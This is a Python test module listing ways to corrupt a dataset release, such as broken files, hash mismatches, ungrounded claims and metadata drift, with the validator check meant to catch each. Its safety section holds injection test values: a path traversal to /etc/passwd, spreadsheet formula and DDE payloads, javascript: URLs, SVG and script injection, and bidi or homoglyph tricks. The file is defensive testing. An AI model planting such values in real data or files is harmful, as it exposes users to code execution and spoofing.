"""Every way to break a release that we could think of, and the check that notices.

One row of the catalogue is a corruption, the code that must report it, and the place where. Each is
applied to a copy of a good release, resealed where a forger would reseal it, and looked at by the
family that is to notice.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tests.tiers import one_of_each
from tests.validators.conftest import Copy
from tests.validators.editing import (
    Row,
    csv_path,
    edit,
    edit_json,
    edit_text,
    fit_page,
    parquet_path,
    read_rows,
    reseal,
    seal,
    write_rows,
)
from tests.validators.good_release import ARTICLES, ENTITIES, article_id, entity_id

from factpack_validators.checks import CHECKS, FAMILIES
from factpack_validators.release import validate_release
from factpack_validators.schemas import arrow_schema

Place = dict[str, Any]
Corrupt = Callable[[Path], Place]

KEYS = {
    "articles": "article_id",
    "claims": "claim_id",
    "entities": "entity_id",
    "facts": "fact_id",
    "literals": "literal_id",
    "mentions": "mention_id",
    "origins": "origin_id",
    "quotes": "quote_id",
    "rejected": "rejected_id",
    "statements": "claim_id",
    "predicates": "predicate",
}

FACTS_CSV = "csv/facts.csv"
FACTS_PARQUET = "data/facts/facts-00000-of-00001.parquet"


@dataclass(frozen=True)
class Corruption:
    """A name to tell it by, what it does, who must notice, and whether hashes are made to fit."""

    name: str
    corrupt: Corrupt
    code: str
    sealed: bool = True


def cell(
    table: str,
    column: str,
    value: Any,
    where: Callable[[Row], bool] = lambda row: True,
    place: str | None = None,
    **formats: bool,
) -> Corrupt:
    """Change one cell of the first row that fits; a callable value is given the old one."""

    def corrupt(release: Path) -> Place:
        def change(rows: list[Row]) -> Place:
            number, row = next((i, r) for i, r in enumerate(rows) if where(r))
            row[column] = value(row[column]) if callable(value) else value
            found: Place = {"table": table, "column": place or column}
            if table in KEYS and column != KEYS[table]:
                found |= {"row": number, "key": row[KEYS[table]]}
            return found

        return dict(edit(release, table, change, **formats))

    return corrupt


def rows(table: str, change: Callable[[list[Row]], Place], **formats: bool) -> Corrupt:
    """Change the rows of a table as a whole."""
    return lambda release: {"table": table} | dict(edit(release, table, change, **formats))


def text(file: str, old: str, new: str) -> Corrupt:
    def corrupt(release: Path) -> Place:
        edit_text(release, file, old, new)
        return {"file": file}

    return corrupt


def data(file: str, change: Callable[[Any], Any], **place: Any) -> Corrupt:
    def corrupt(release: Path) -> Place:
        edit_json(release, file, change)
        return {"file": file, **place}

    return corrupt


def resource(file: str, change: Callable[[Any], Any], **place: Any) -> Corrupt:
    """Change what datapackage.json says of one file, wherever it lists it."""
    return data(
        "datapackage.json",
        lambda d: change(next(r for r in d["resources"] if r["path"] == file)),
        **place,
    )


def at(corrupt: Corrupt, **place: Any) -> Corrupt:
    """The corruption, noticed elsewhere than where it was made."""

    def corrupt_there(release: Path) -> Place:
        corrupt(release)
        return place

    return corrupt_there


def remove(file: str) -> Corrupt:
    def corrupt(release: Path) -> Place:
        (release / file).unlink()
        return {"file": file}

    return corrupt


def write(file: str, content: bytes) -> Corrupt:
    def corrupt(release: Path) -> Place:
        (release / file).parent.mkdir(exist_ok=True, parents=True)
        (release / file).write_bytes(content)
        return {"file": file}

    return corrupt


def empty_folder(name: str) -> Corrupt:
    def corrupt(release: Path) -> Place:
        (release / name).mkdir(parents=True)
        return {"file": name}

    return corrupt


def truncated(file: str) -> Corrupt:
    def corrupt(release: Path) -> Place:
        content = (release / file).read_bytes()
        (release / file).write_bytes(content[: len(content) // 2])
        return {"file": file}

    return corrupt


def retyped(table: str, column: str, kind: pa.DataType) -> Corrupt:
    """Another Arrow type for one column of the Parquet."""

    def corrupt(release: Path) -> Place:
        old = pq.read_table(parquet_path(release, table))
        place = old.schema.get_field_index(column)
        pq.write_table(
            old.set_column(place, column, old[column].cast(kind)), parquet_path(release, table)
        )
        return {"table": table, "column": column}

    return corrupt


def columns(table: str, change: Callable[[pa.Table], pa.Table], **place: Any) -> Corrupt:
    def corrupt(release: Path) -> Place:
        path = parquet_path(release, table)
        pq.write_table(change(pq.read_table(path)), path)
        return {"table": table, **place}

    return corrupt


def linked(release: Path) -> Place:
    (release / "NOTES.md").symlink_to("/etc/hostname")
    return {"file": "NOTES.md"}


def noted(release: Path) -> Place:
    """A note in the Parquet by which pandas would take a column for the index."""
    path = parquet_path(release, "facts")
    note = json.dumps({"index_columns": ["fact_id"], "columns": [], "column_indexes": []})
    pq.write_table(pq.read_table(path).replace_schema_metadata({"pandas": note}), path)
    return {"table": "facts"}


def renamed_quietly(release: Path) -> Place:
    """An entity with a name that looks like its own, in every table that names it."""
    old, new = "Alder Labs", "\u0410lder Labs"
    for table, columns in (("entities", ("name",)), ("facts", ("subject", "object"))):
        table_rows = read_rows(release, table)
        for row in table_rows:
            row |= {column: new for column in columns if row[column] == old}
        write_rows(release, table, table_rows)
    return {"table": "entities", "key": entity_id("alder"), "column": "name"}


def one_item(rows: list[Row]) -> Place:
    for row in rows[:2]:
        row["wikidata_id"] = "Q42"
    return {}


def relicensed(release: Path) -> Place:
    """Another licence in all files that name it, but for its text."""
    edit_text(release, "README.md", "license: cc-by-4.0", "license: cc0-1.0")
    edit_text(release, "CITATION.cff", "license: CC-BY-4.0", "license: CC0-1.0")
    edit_json(release, "datapackage.json", lambda d: d["licenses"][0].update(name="CC0-1.0"))
    return {"file": "LICENSE"}


def pattern(file: str, old: str, new: str) -> Corrupt:
    """Replace the first match of a regular expression."""

    def corrupt(release: Path) -> Place:
        content, n = re.subn(old, new, (release / file).read_text("utf-8"), count=1)
        assert n, (file, old)
        (release / file).write_text(content, "utf-8")
        return {"file": file}

    return corrupt


def append(file: str, content: str) -> Corrupt:
    def corrupt(release: Path) -> Place:
        with (release / file).open("a", encoding="utf-8") as stream:
            stream.write(content)
        return {"file": file}

    return corrupt


def swapped_entity(rows: list[Row]) -> Place:
    """A claim whose subject is another organisation, which its words do not name."""
    subjects = sorted({r["subject_id"] for r in rows if r["predicate"] == "has_goal"})
    number, row = next((i, r) for i, r in enumerate(rows) if r["predicate"] == "located_in")
    row["subject_id"] = subjects[0]
    return {"row": number, "key": row["claim_id"], "column": "subject_id"}


def doubled(rows: list[Row]) -> Place:
    rows.insert(1, dict(rows[0]))
    return {"key": rows[0]["claim_id"]}


def doubled_quietly(rows: list[Row]) -> Place:
    doubled(rows)
    return {"key": None}


def out_of_order(rows: list[Row]) -> Place:
    rows[0], rows[1] = rows[1], rows[0]
    return {"key": rows[1]["claim_id"], "row": 1}


def by_key(rows: list[Row]) -> Place:
    rows.sort(key=lambda row: str(row["claim_id"]))
    return {"column": None}


def dropped(rows: list[Row]) -> Place:
    row = rows.pop(2)
    return {"key": row["claim_id"], "row": 2}


def statement_gone(rows: list[Row]) -> Place:
    return {"table": "claims", "key": rows.pop(0)["claim_id"]}


def as_if_so(statement: str) -> str:
    return statement.replace("plans for", "has").replace("was not", "was")


def without_claims(rows: list[Row]) -> Place:
    fact = next(r["fact_id"] for r in rows if r["predicate"] == "has_goal")
    rows[:] = [r for r in rows if r["fact_id"] != fact]
    return {"table": "facts", "key": fact}


def without_evidence(part: str) -> Callable[[list[Row]], Place]:
    def change(rows: list[Row]) -> Place:
        gone = next(r for r in rows if r["part"] == part)
        rows.remove(gone)
        return {"table": "claims", "key": gone["claim_id"]}

    return change


def shifted(table: str, by: int) -> Corrupt:
    """A span moved along its text, hash and words left as they were."""

    def change(rows: list[Row]) -> Place:
        row = rows[0]
        row["char_start"] += by
        row["char_end"] += by
        return {"key": row[KEYS[table]], "row": 0}

    return rows_of(table, change)


def rows_of(table: str, change: Callable[[list[Row]], Place]) -> Corrupt:
    return rows(table, change)


def other_article(known: str) -> str:
    return next(id_ for a in ARTICLES if (id_ := article_id(a.source)) != known)


def circle(rows: list[Row]) -> Place:
    a, b = rows[0], rows[1]
    a["replaced_by"], b["replaced_by"] = b["entity_id"], a["entity_id"]
    return {"column": "replaced_by"}


def new_conflict(rows: list[Row]) -> Place:
    """A conflict of two facts that agree in what it names."""
    for row in rows:
        row["kind"] = "amount"
    return {"column": "kind", "row": 0}


def lonely_rival(rows: list[Row]) -> Place:
    del rows[1]
    return {"column": "fact_id", "row": 0}


def two_outcomes(rows: list[Row]) -> Place:
    rows[0].update(status="withdrawn", resolution="compatible")
    return {"column": "conflict_id", "row": 0}


def other_reason(rows: list[Row]) -> Place:
    rows[0]["reason"] = "Because somebody said so."
    return {"column": "conflict_id", "row": 0}


def other_preferred(rows: list[Row]) -> Place:
    """A side is preferred though the other has as many origins."""
    for row in rows:
        row.update(status="resolved", resolution="origins", is_preferred=False)
    rows[0]["is_preferred"] = True
    return {"column": "is_preferred", "row": 0}


def gap_in_segments(rows: list[Row]) -> Place:
    kept = [i for i, r in enumerate(rows) if r["kept"] and r["char_start"]]
    rows[kept[0]]["char_start"] += 3
    rows[kept[0]]["char_end"] += 3
    return {"column": "char_start", "row": kept[0]}


def overlapping_segments(rows: list[Row]) -> Place:
    rows[1]["raw_start"] -= 1
    return {"column": "raw_start", "row": 1}


def unlisted(package: Any) -> None:
    package["resources"] = [r for r in package["resources"] if r["path"] != FACTS_CSV]


FIRST_2021 = date(2021, 12, 31)

CATALOGUE: tuple[Corruption, ...] = (
    # Files.
    Corruption("a table is gone", remove("csv/facts.csv"), "file-missing"),
    Corruption(
        "the Parquet of a table is gone",
        remove("data/facts/facts-00000-of-00001.parquet"),
        "file-missing",
    ),
    Corruption("the datasheet is gone", remove("DATASHEET.md"), "file-missing"),
    Corruption("the hashes are gone", remove("SHA256SUMS"), "file-missing", sealed=False),
    Corruption("a file too many", write("notes.txt", b"to do\n"), "file-unexpected"),
    Corruption(
        "a truncated Parquet",
        truncated("data/claims/claims-00000-of-00001.parquet"),
        "parquet-unreadable",
    ),
    Corruption(
        "a Parquet that is none",
        write("data/facts/facts-00000-of-00001.parquet", b"PAR1PAR1"),
        "parquet-unreadable",
    ),
    Corruption(
        "an empty Parquet file",
        write("data/facts/facts-00000-of-00001.parquet", b""),
        "parquet-unreadable",
    ),
    Corruption("an empty CSV file", write("csv/facts.csv", b""), "csv-unreadable"),
    Corruption(
        "a CSV row with a cell too many",
        text("csv/origins.csv", ",0.9\n", ",0.9,x\n"),
        "csv-unreadable",
    ),
    Corruption(
        "a CSV row with a cell too few", text("csv/origins.csv", ",0.9\n", "\n"), "csv-unreadable"
    ),
    Corruption(
        "a comma too many at the end of a CSV row",
        text("csv/origins.csv", ",0.9\n", ",0.9,\n"),
        "csv-form",
    ),
    Corruption("a blank line in a CSV", text("csv/facts.csv", "\nf-", "\n\nf-"), "csv-form"),
    Corruption(
        "needless quotes in a CSV", text("csv/origins.csv", ",article,", ',"article",'), "csv-form"
    ),
    Corruption(
        "a CSV that is not UTF-8",
        write("csv/origins.csv", b"origin_id\n\xff\xfe\n"),
        "csv-unreadable",
    ),
    Corruption(
        "broken JSON", write("datapackage.json", b'{"name": '), "json-invalid", sealed=False
    ),
    Corruption(
        "JSON nested without end",
        write("manifest.json", b"[" * 100_000),
        "json-invalid",
        sealed=False,
    ),
    Corruption("a document that is not UTF-8", write("README.md", b"\xff\xfe"), "file-unreadable"),
    # Columns.
    Corruption(
        "a column is gone",
        columns("facts", lambda t: t.drop_columns(["rank"]), column="rank"),
        "column-missing",
    ),
    Corruption(
        "a column too many",
        columns("facts", lambda t: t.append_column("note", t["fact_id"]), column="note"),
        "column-unexpected",
    ),
    Corruption(
        "columns in another order",
        columns("facts", lambda t: t.select(t.column_names[::-1])),
        "column-order",
    ),
    Corruption("a number column of text", retyped("facts", "amount", pa.string()), "column-type"),
    Corruption("a 32-bit count", retyped("facts", "n_claims", pa.int32()), "column-type"),
    Corruption(
        "a CSV column renamed",
        text("csv/facts.csv", "fact_id,predicate", "fact_id,relation"),
        "column-missing",
    ),
    # Cells.
    Corruption("a null in a required cell", cell("claims", "predicate", None), "value-required"),
    Corruption("a null in a key", cell("claims", "claim_id", None), "value-required"),
    Corruption(
        "an identifier of another form", cell("claims", "subject_id", "e-XYZ"), "value-pattern"
    ),
    Corruption(
        "a line break after an identifier",
        cell("claims", "subject_id", lambda v: v + "\n"),
        "value-pattern",
    ),
    Corruption("a value that is not in the list", cell("facts", "status", "proved"), "value-enum"),
    Corruption("a negative count", cell("facts", "n_planned", -1), "value-minimum"),
    Corruption("a share above one", cell("origins", "similarity", 1.5), "value-maximum"),
    Corruption("a number that is none", cell("facts", "amount", float("nan")), "value-not-finite"),
    Corruption("an infinite number", cell("facts", "amount", float("inf")), "value-not-finite"),
    Corruption(
        "white space at an edge", cell("entities", "name", lambda v: v + " "), "value-edges"
    ),
    Corruption("an empty text", cell("entities", "name", "", text=False), "value-edges"),
    Corruption(
        "a no-break space at an edge", cell("entities", "name", lambda v: "\xa0" + v), "value-edges"
    ),
    Corruption(
        "a carriage return", cell("entities", "name", "Alder\rLabs", text=False), "value-control"
    ),
    Corruption(
        "a word for a number in CSV",
        text("csv/facts.csv", ",12000000.0,", ",twelve,"),
        "value-form",
    ),
    Corruption(
        "a shouted boolean in CSV", text("csv/segments.csv", ",true,", ",TRUE,"), "value-form"
    ),
    Corruption(
        "a date the other way round in CSV",
        text("csv/claims.csv", ",2021-03-01,", ",01.03.2021,"),
        "value-form",
    ),
    Corruption("a duplicated identifier", rows("claims", doubled), "key-duplicate"),
    Corruption("rows out of order", rows("claims", out_of_order), "row-order"),
    Corruption("statements by key alone", rows("statements", by_key), "row-order"),
    Corruption("a statement twice", rows("statements", doubled), "key-duplicate"),
    Corruption(
        "a claim of a fact that is not there",
        cell("claims", "fact_id", "f-" + "0" * 20),
        "foreign-key",
    ),
    Corruption(
        "a mention of nobody", cell("mentions", "entity_id", "e-" + "0" * 20), "foreign-key"
    ),
    Corruption(
        "a duplicate of nothing", cell("articles", "duplicate_of", "a-" + "0" * 20), "foreign-key"
    ),
    # Equality.
    Corruption(
        "a changed digit in Parquet alone",
        cell("facts", "amount", 13e6, lambda r: r["amount"], text=False),
        "cell-differs",
    ),
    Corruption(
        "a changed letter in CSV alone",
        cell("entities", "name", "Alder Lads", parquet=False),
        "cell-differs",
    ),
    Corruption(
        "a cell emptied in CSV alone",
        cell("facts", "kind", None, lambda r: r["kind"], parquet=False),
        "cell-differs",
    ),
    Corruption("a row dropped in CSV alone", rows("claims", dropped, parquet=False), "row-missing"),
    Corruption(
        "a row dropped in Parquet alone", rows("claims", dropped, text=False), "row-missing"
    ),
    Corruption(
        "a row doubled in Parquet alone", rows("claims", doubled_quietly, text=False), "rows-differ"
    ),
    Corruption(
        "a changed file", text("README.md", "Version", "version"), "hash-mismatch", sealed=False
    ),
    Corruption(
        "a changed Parquet",
        at(cell("facts", "rank", "preferred"), file="data/facts/facts-00000-of-00001.parquet"),
        "hash-mismatch",
        sealed=False,
    ),
    Corruption(
        "a file that is not listed",
        write("plots/new.svg", b"<svg/>"),
        "file-unlisted",
        sealed=False,
    ),
    Corruption("a listed file that is gone", remove("LICENSE"), "file-missing", sealed=False),
    Corruption(
        "a line of hashes that cannot be read",
        text("SHA256SUMS", "  README.md", " README.md"),
        "sums-invalid",
        sealed=False,
    ),
    Corruption(
        "a wrong hash in datapackage.json",
        at(
            resource(FACTS_PARQUET, lambda r: r.update(hash="sha256:" + "0" * 64)),
            file=FACTS_PARQUET,
        ),
        "resource-hash",
        sealed=False,
    ),
    Corruption(
        "a wrong size in datapackage.json",
        at(
            resource(FACTS_CSV, lambda r: r.update(bytes=1)),
            file=FACTS_CSV,
        ),
        "resource-hash",
        sealed=False,
    ),
    Corruption(
        "a wrong row digest",
        at(
            data("manifest.json", lambda d: d["tables"]["facts"].update(row_digest="0" * 64)),
            table="facts",
        ),
        "row-digest",
        sealed=False,
    ),
    # Grounding.
    Corruption("a shifted mention", shifted("mentions", 1), "span-hash"),
    Corruption("a shifted claim", shifted("claims", 3), "span-hash"),
    Corruption("a span beyond the article", shifted("quotes", 10_000), "span-range"),
    Corruption(
        "a span that ends before it begins",
        cell("mentions", "char_end", 1, lambda r: r["char_start"] > 5),
        "span-range",
    ),
    Corruption(
        "words that are not in the article",
        cell("claims", "exact", lambda v: v[:-2] + "s.", place="exact_sha256"),
        "words-hash",
    ),
    Corruption("a changed hash of words", cell("literals", "exact_sha256", "0" * 64), "words-hash"),
    Corruption(
        "a changed word in an article",
        cell("articles", "text", lambda v: v.replace("founded", "started"), place="text_sha256"),
        "text-hash",
    ),
    Corruption("a wrong length of an article", cell("articles", "n_words", 7), "text-length"),
    Corruption("a full article without text", cell("articles", "text", None), "text-missing"),
    Corruption("a gap between segments", rows("segments", gap_in_segments), "segment-map"),
    Corruption("overlapping segments", rows("segments", overlapping_segments), "segment-map"),
    Corruption(
        "another amount than the words say",
        cell("claims", "amount", 12e9, lambda r: r["amount"]),
        "value-ungrounded",
    ),
    Corruption(
        "another currency than the words say",
        cell("literals", "currency", "EUR", lambda r: r["amount"] == 12e6, place="amount"),
        "value-ungrounded",
    ),
    Corruption(
        "another bound than the words say",
        cell("claims", "amount_max", 60e6, lambda r: r["amount_max"], place="amount_min"),
        "value-ungrounded",
    ),
    Corruption(
        "another year than the words say",
        cell("claims", "date_from", date(2003, 1, 1), lambda r: r["date_from"] == date(2002, 1, 1)),
        "value-ungrounded",
    ),
    Corruption(
        "another day than the words say",
        cell(
            "literals", "date_from", date(2021, 3, 2), lambda r: r["date_from"] == date(2021, 3, 1)
        ),
        "value-ungrounded",
    ),
    Corruption(
        "a percentage that is a count",
        cell("literals", "unit", None, lambda r: r["unit"] == "percent", place="amount"),
        "value-ungrounded",
    ),
    Corruption("a swapped entity", rows("claims", swapped_entity), "evidence-alias"),
    Corruption(
        "a mention of another entity",
        cell("mentions", "entity_id", lambda v: other_entity(v), lambda r: r["kind"] == "name"),
        "mention-alias",
    ),
    Corruption(
        "a claim without its trigger",
        rows("evidence", without_evidence("trigger")),
        "evidence-missing",
    ),
    Corruption(
        "an amount without words", rows("evidence", without_evidence("amount")), "evidence-missing"
    ),
    Corruption(
        "an object in other words",
        cell(
            "claims",
            "object_value",
            lambda v: v.replace("cheap", "dear"),
            lambda r: r["object_value"],
        ),
        "span-words",
    ),
    Corruption(
        "an object with another digest",
        cell("facts", "object_sha256", "1" * 64, lambda r: r["object_value"]),
        "words-hash",
    ),
    Corruption("a miscounted quote", cell("quotes", "n_words", 99), "quote-words"),
    # Coherence.
    Corruption(
        "a wrong count of claims", cell("facts", "n_claims", lambda v: v + 1), "count-mismatch"
    ),
    Corruption("a wrong count of origins", cell("facts", "n_origins", 9), "count-mismatch"),
    Corruption("a wrong count of articles", cell("facts", "n_articles", 9), "count-mismatch"),
    Corruption("a wrong count of mentions", cell("entities", "n_mentions", 99), "count-mismatch"),
    Corruption(
        "a wrong count of an alias",
        rows("aliases", lambda r: r[0].update(n_mentions=99) or {"column": "n_mentions", "row": 0}),
        "count-mismatch",
    ),
    Corruption("a wrong count of an origin", cell("origins", "n_publishers", 9), "count-mismatch"),
    Corruption(
        "a wrong count of what was removed",
        cell("articles", "n_removed_chars", 9999),
        "text-length",
    ),
    Corruption(
        "a fact that is first published later",
        cell("facts", "first_published", FIRST_2021, lambda r: r["first_published"]),
        "fact-support",
    ),
    Corruption(
        "a planned fact that is asserted",
        cell("facts", "modality", "asserted", lambda r: r["modality"] == "planned"),
        "fact-support",
    ),
    Corruption(
        "a changed digit in a fact",
        cell("facts", "amount", 21e6, lambda r: r["amount"]),
        "fact-support",
    ),
    Corruption(
        "another day in a fact",
        cell("facts", "date_to", date(2030, 1, 1), lambda r: r["date_to"], place="date_from"),
        "fact-support",
    ),
    Corruption(
        "another kind in a fact",
        cell("facts", "kind", "loan", lambda r: r["kind"]),
        "fact-support",
    ),
    Corruption("a fact without claims", rows("claims", without_claims), "fact-unsupported"),
    Corruption("a fact with another name", cell("facts", "subject", "Elder Labs"), "fact-name"),
    Corruption(
        "a statement of another publisher",
        cell("statements", "publisher", "Elder Post"),
        "statement-differs",
    ),
    Corruption(
        "a statement with more support than its fact has",
        cell("statements", "n_origins", lambda n: n + 1),
        "statement-differs",
    ),
    Corruption("a statement that is gone", rows("statements", statement_gone), "statement-differs"),
    Corruption(
        "a statement that reads as if it were so",
        cell("statements", "statement", as_if_so, lambda r: r["modality"] == "planned"),
        "statement-modality",
    ),
    Corruption(
        "a fact that reads as if nobody denied it",
        cell("facts", "statement", as_if_so, lambda r: r["modality"] == "negated"),
        "statement-modality",
    ),
    Corruption(
        "a statement that the article seems to make itself",
        cell(
            "statements",
            "statement",
            lambda said: said.removesuffix(", Tomas Reed said"),
            lambda r: r["speaker"] is not None,
        ),
        "statement-modality",
    ),
    Corruption(
        "a statement that reads as if it were denied",
        cell(
            "statements",
            "statement",
            "Mara Quill is not chief executive at Alder Labs",
            lambda r: r["predicate"] == "has_role",
        ),
        "statement-modality",
    ),
    Corruption(
        "a statement that reads as if a post were over",
        cell(
            "statements",
            "statement",
            lambda said: said.replace(" is ", " was formerly "),
            lambda r: r["predicate"] == "has_role",
        ),
        "statement-modality",
    ),
    *(
        Corruption(
            f"a post that is over and reads as if it were held, in {table}",
            at(
                cell(table, "former", True, lambda r: r["predicate"] == "has_role"),
                table=table,
                column="statement",
            ),
            "statement-modality",
        )
        for table in ("statements", "facts")
    ),
    Corruption(
        "a statement about somebody else",
        cell(
            "statements",
            "statement",
            "Tomas Reed is chief executive at Alder Labs",
            lambda r: r["predicate"] == "has_role",
        ),
        "statement-modality",
    ),
    Corruption(
        "a sentence that no article has",
        cell("statements", "sentence", lambda words: words.replace(" ", "  ", 1)[:-1]),
        "span-words",
    ),
    Corruption(
        "a sentence without the claim",
        cell("claims", "sentence_end", lambda end: end - 1, place="sentence_start"),
        "span-range",
    ),
    Corruption(
        "a fact about another subject",
        cell("facts", "subject_id", lambda v: other_entity(v), place="subject"),
        "fact-name",
    ),
    Corruption(
        "a claim with another predicate", cell("claims", "predicate", "develops"), "fact-claim"
    ),
    Corruption(
        "a contested fact that looks settled",
        cell("facts", "status", "single", lambda r: r["status"] == "contested"),
        "fact-status",
    ),
    Corruption(
        "a single fact that looks corroborated",
        cell("facts", "status", "corroborated", lambda r: r["status"] == "single"),
        "fact-status",
    ),
    Corruption(
        "a loser that is preferred",
        cell(
            "facts",
            "rank",
            "preferred",
            lambda r: r["status"] == "contested" and r["rank"] == "normal",
        ),
        "fact-status",
    ),
    Corruption("a conflict about nothing", rows("conflicts", new_conflict), "conflict-unfounded"),
    Corruption("a conflict of one", rows("conflicts", lonely_rival), "conflict-unfounded"),
    Corruption(
        "a conflict that ended in two ways", rows("conflicts", two_outcomes), "conflict-unfounded"
    ),
    Corruption("a conflict for two reasons", rows("conflicts", other_reason), "conflict-unfounded"),
    Corruption(
        "a conflict that prefers the wrong side",
        rows("conflicts", other_preferred),
        "conflict-unfounded",
    ),
    Corruption(
        "an identifier that is made up",
        cell("rejected", "reason", "Something else.", place="rejected_id"),
        "id-mismatch",
    ),
    Corruption(
        "a source id that was changed",
        cell("articles", "source_id", "another", place="article_id"),
        "id-mismatch",
    ),
    Corruption(
        "an origin that is given to another article",
        cell("origins", "article_id", other_article, place="origin_id"),
        "id-mismatch",
    ),
    Corruption(
        "an article that is passed off as a statement",
        cell("origins", "kind", "statement", place="origin_id"),
        "id-mismatch",
    ),
    Corruption(
        "a mention that was moved with its hash",
        cell(
            "mentions",
            "char_start",
            lambda v: v - 1,
            lambda r: r["char_start"] > 60,
            place="mention_id",
        ),
        "id-mismatch",
    ),
    Corruption(
        "a product that has a chief",
        at(
            cell("predicates", "subject_types", "Product", lambda r: r["predicate"] == "has_role"),
            table="facts",
            column="subject_id",
        ),
        "vocabulary",
    ),
    Corruption(
        "a currency that does not exist",
        cell("literals", "currency", "QQQ", lambda r: r["currency"]),
        "currency-unknown",
    ),
    Corruption(
        "a language that does not exist", cell("articles", "language", "xx"), "language-unknown"
    ),
    Corruption(
        "a currency without an amount",
        cell("facts", "amount", None, lambda r: r["amount"], place="currency"),
        "value-incomplete",
    ),
    Corruption(
        "bounds the wrong way round",
        cell("claims", "amount_min", 90e6, lambda r: r["amount_min"], place="amount"),
        "value-incomplete",
    ),
    Corruption(
        "a precision without a date",
        cell("facts", "date_precision", "year", lambda r: r["date_from"] is None),
        "value-incomplete",
    ),
    Corruption(
        "a period that ends first",
        cell("claims", "date_to", date(1990, 1, 1), lambda r: r["date_to"]),
        "date-order",
    ),
    Corruption(
        "a year that is a month",
        cell("literals", "date_precision", "month", lambda r: r["date_precision"] == "year"),
        "date-order",
    ),
    Corruption(
        "an article that knew the future",
        at(
            cell("articles", "published_on", date(1995, 5, 5), lambda r: r["source"] == "002.txt"),
            table="claims",
            column="date_from",
        ),
        "time-travel",
    ),
    Corruption(
        "an article of the future",
        cell("articles", "published_on", date(9999, 12, 31), lambda r: r["source"] == "002.txt"),
        "published-after-release",
    ),
    Corruption("entities that replace each other", rows("entities", circle), "chain-broken"),
    Corruption(
        "a copy with an origin of its own",
        cell(
            "articles",
            "origin_id",
            lambda v: v[:-1] + ("0" if v[-1] != "0" else "1"),
            lambda r: r["duplicate_of"],
        ),
        "origin-mismatch",
    ),
    # Metadata.
    Corruption(
        "a resource that is gone",
        data("datapackage.json", unlisted, table="facts"),
        "package-mismatch",
        sealed=False,
    ),
    Corruption(
        "a schema that allows more",
        resource(FACTS_CSV, lambda r: r["schema"]["fields"][0].pop("constraints"), table="facts"),
        "package-mismatch",
    ),
    Corruption(
        "a wrong number of rows",
        resource(FACTS_CSV, lambda r: r.update({"x:rows": 1}), table="facts"),
        "package-mismatch",
        sealed=False,
    ),
    Corruption(
        "a version that is none",
        data("datapackage.json", lambda d: d.update(version="new")),
        "package-profile",
    ),
    Corruption(
        "a package without a licence",
        data("datapackage.json", lambda d: d.pop("licenses")),
        "package-profile",
    ),
    Corruption(
        "a lying version in the manifest",
        data("manifest.json", lambda d: d.update(version="9.9.9")),
        "manifest-mismatch",
    ),
    Corruption(
        "inputs that were not there",
        data("manifest.json", lambda d: d["inputs"]["articles"].pop()),
        "manifest-mismatch",
    ),
    Corruption(
        "another contract",
        data("manifest.json", lambda d: d.update(schema_sha256="0" * 64)),
        "manifest-mismatch",
    ),
    Corruption(
        "a lying YAML", text("README.md", "num_examples: 9", "num_examples: 8"), "card-mismatch"
    ),
    Corruption(
        "a column of another type in the card",
        text("README.md", "dtype: float64", "dtype: int64"),
        "card-mismatch",
    ),
    Corruption(
        "another licence in the card",
        text("README.md", "license: cc-by-4.0", "license: cc0-1.0"),
        "card-mismatch",
    ),
    Corruption(
        "a card that reads another file",
        text("README.md", "path: data/facts/", "path: data/claims/"),
        "card-mismatch",
    ),
    Corruption(
        "a YAML bomb", text("README.md", "---\n", "---\na: &a [x]\nb: *a\n"), "card-invalid"
    ),
    Corruption(
        "a YAML that is none",
        text("README.md", "license: cc-by-4.0", "license: [cc-by-4.0"),
        "card-invalid",
    ),
    Corruption(
        "another version in the citation",
        text("CITATION.cff", "version: 1.0.0", "version: 1.0.1"),
        "citation-mismatch",
    ),
    Corruption(
        "a citation without authors",
        text("CITATION.cff", "authors:", "writers:"),
        "citation-invalid",
    ),
    Corruption(
        "a datasheet with another count",
        text("DATASHEET.md", "| `facts` | 9 |", "| `facts` | 99 |"),
        "datasheet-mismatch",
    ),
    Corruption(
        "errors that were published",
        data("validation.json", lambda d: d.update(counts={"error": 1, "warning": 0, "info": 0})),
        "validation-mismatch",
    ),
    Corruption(
        "a check that was lowered on the quiet",
        at(
            data(
                "manifest.json",
                lambda d: d["dataset_yaml"].update(
                    checks=[{"code": "evidence-alias", "severity": "info", "reason": "Trust us."}]
                ),
            ),
            file="DATASHEET.md",
        ),
        "datasheet-mismatch",
    ),
    Corruption(
        "a change log of another version",
        text("CHANGELOG.md", "1.0.0", "0.9.0"),
        "changelog-mismatch",
    ),
    Corruption(
        "a croissant of another version",
        write("croissant.json", b'{"name": "alder-and-birch", "version": "2.0.0"}'),
        "croissant-mismatch",
    ),
    # Safety.
    Corruption("a link out of the folder", linked, "link-outside"),
    Corruption(
        "a path out of the folder",
        resource(FACTS_CSV, lambda r: r.update(path="../../etc/passwd")),
        "path-unsafe",
    ),
    Corruption(
        "a path to another machine",
        resource(FACTS_CSV, lambda r: r.update(path="https://example.org/facts.csv")),
        "path-unsafe",
    ),
    Corruption("a formula cell", cell("entities", "name", "=HYPERLINK(1)"), "formula-name"),
    Corruption(
        "a formula in an article", cell("articles", "title", "=cmd|' /C calc'!A0"), "formula-words"
    ),
    Corruption(
        "a name that turns around", cell("entities", "name", "Alder\u202eLabs"), "bidi-control"
    ),
    Corruption(
        "a name with an invisible letter",
        cell("entities", "name", "Al\u200bder"),
        "invisible-character",
    ),
    Corruption("markup in a name", cell("entities", "name", "<b>Alder</b>"), "markup-in-name"),
    Corruption("a URL that runs", cell("articles", "url", "javascript:alert(1)"), "url-scheme"),
    Corruption(
        "a drawing that runs", write("plots/a.svg", b"<svg onload='alert(1)'/>"), "active-content"
    ),
    Corruption(
        "a drawing that calls home",
        write("plots/a.svg", b"<svg><image href='https://example.org/x'/></svg>"),
        "active-content",
    ),
    Corruption(
        "a page with another word",
        text("DATASHEET.html", "Who created it?", "Who checked it?"),
        "datasheet-mismatch",
    ),
    Corruption(
        "a page that may load",
        text("DATASHEET.html", "default-src 'none'", "default-src *"),
        "datasheet-mismatch",
    ),
    Corruption(
        "a page with another plot",
        text("DATASHEET.html", 'aria-label="Claims by modality"', 'aria-label="Claims"'),
        "datasheet-mismatch",
    ),
    Corruption(
        "a page with other contents",
        text("DATASHEET.html", ">1. Motivation</a>", ">1. Results</a>"),
        "datasheet-mismatch",
    ),
    Corruption(
        "a page with a script",
        text("DATASHEET.html", "</main>", "<script>x()</script></main>"),
        "active-content",
    ),
    Corruption(
